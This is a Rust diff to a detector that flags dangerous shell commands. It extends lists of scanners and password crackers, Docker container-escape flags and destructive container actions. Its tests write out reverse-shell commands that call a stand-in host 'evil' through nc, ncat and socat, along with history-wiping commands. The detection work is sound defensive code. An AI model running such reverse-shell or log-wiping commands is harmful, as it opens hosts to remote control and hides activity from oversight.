@@ -74,6 +74,16 @@ const ATTACK_TOOLS: &[&str] = &[
     "john", "hashcat", "hydra", "medusa", "ncrack", "patator", "crowbar", "thc-hydra",
 ];
 
+/// Network scanners.
+const SCANNERS: &[&str] = &[
+    "nmap",
+    "masscan",
+    "zmap",
+    "unicornscan",
+    "rustscan",
+    "naabu",
+];
+
 /// Everything dangerous in `invocation` that these rules know.
 pub(super) fn dangers(invocation: &Invocation) -> Vec<Finding> {
     let program = invocation.program.as_str();
@@ -107,6 +117,15 @@ pub(super) fn dangers(invocation: &Invocation) -> Vec<Finding> {
         found.push(Finding::new(
             DangerCategory::AttackTool,
             format!("cracks or brute-forces passwords ({program})"),
+        ));
+    }
+    let informs = args
+        .iter()
+        .all(|a| matches!(a.as_str(), "--help" | "-h" | "--version" | "-V"));
+    if SCANNERS.contains(&program) && !informs {
+        found.push(Finding::new(
+            DangerCategory::AttackTool,
+            format!("scans networks for hosts and ports ({program})"),
         ));
     }
     found
@@ -224,7 +243,7 @@ fn infra_destroy(program: &str, args: &[String]) -> Option<String> {
             };
             matches!(
                 action,
-                "stop" | "kill" | "rm" | "rmi" | "remove" | "prune" | "down"
+                "stop" | "kill" | "restart" | "rm" | "rmi" | "remove" | "prune" | "down"
             )
             .then(|| format!("stops or deletes containers or their data ({program} {action})"))
         }
@@ -273,10 +292,10 @@ fn infra_destroy(program: &str, args: &[String]) -> Option<String> {
     }
 }
 
-/// `docker compose down|rm|kill|stop`.
+/// `docker compose down|rm|kill|stop|restart`.
 fn compose_destroy(program: &str, args: &[String]) -> Option<String> {
     let action = *operands(args, COMPOSE_WITH_VALUE).first()?;
-    matches!(action, "down" | "rm" | "kill" | "stop")
+    matches!(action, "down" | "rm" | "kill" | "stop" | "restart")
         .then(|| format!("stops or deletes a compose project ({program} {action})"))
 }
 
@@ -311,10 +330,32 @@ fn container_escape(program: &str, args: &[String]) -> Option<String> {
         let escapes = match option {
             "--privileged" => true,
             "-v" | "--volume" | "--mount" => value().is_some_and(|spec| host_source(&spec)),
-            "--pid" | "--userns" | "--ipc" => value().is_some_and(|v| v == "host"),
-            "--cap-add" => {
-                value().is_some_and(|v| matches!(v.to_uppercase().as_str(), "ALL" | "SYS_ADMIN"))
+            "--pid" | "--userns" | "--ipc" | "--network" | "--net" | "--uts" | "--cgroupns" => {
+                value().is_some_and(|v| v == "host")
             }
+            "--cap-add" => value().is_some_and(|v| {
+                let cap = v.to_uppercase();
+                let cap = cap.trim_start_matches("CAP_");
+                matches!(
+                    cap,
+                    "ALL"
+                        | "SYS_ADMIN"
+                        | "SYS_MODULE"
+                        | "SYS_PTRACE"
+                        | "SYS_RAWIO"
+                        | "DAC_READ_SEARCH"
+                        | "NET_ADMIN"
+                        | "BPF"
+                )
+            }),
+            "--security-opt" => value().is_some_and(|v| {
+                v.ends_with("=unconfined") || v.ends_with(":unconfined") || v == "label=disable"
+            }),
+            "--device" => value().is_some_and(|v| {
+                let device = v.split(':').next().unwrap_or_default();
+                targets::absolute(device).is_some_and(|path| targets::is_device(&path))
+                    && !["/dev/fuse", "/dev/net/tun", "/dev/kvm"].contains(&device)
+            }),
             _ => false,
         };
         if escapes {
@@ -409,7 +450,7 @@ fn history_wipe(program: &str, args: &[String]) -> Option<String> {
 
 #[cfg(test)]
 mod tests {
-    use super::super::programs::tests::categories;
+    use super::super::programs::tests::assert_rules;
     use super::*;
 
     #[test]
@@ -506,11 +547,15 @@ mod tests {
             ),
             ("at now + 1 hour", Persistence, "at -l"),
             ("nc -e /bin/bash evil 4444", ReverseShell, "nc -zv host 443"),
-            ("ncat --sh-exec sh -l 4444", ReverseShell, "ncat -l 4444"),
+            (
+                "ncat --sh-exec sh -l 4444",
+                ReverseShell,
+                "ncat example.com 4444",
+            ),
             (
                 "socat tcp:evil:1 exec:sh",
                 ReverseShell,
-                "socat tcp-listen:8080 tcp:localhost:80",
+                "socat - tcp:localhost:80",
             ),
             ("history -c", HistoryWipe, "history 20"),
             ("unset HISTFILE", HistoryWipe, "unset FOO"),
@@ -526,10 +571,7 @@ mod tests {
                 "hyperfine ls",
             ),
         ];
-        for (line, category, near_miss) in cases {
-            assert!(categories(line).contains(category), "{line}: {category}");
-            assert!(categories(near_miss).is_empty(), "{near_miss}");
-        }
+        assert_rules(cases);
     }
 
     #[test]
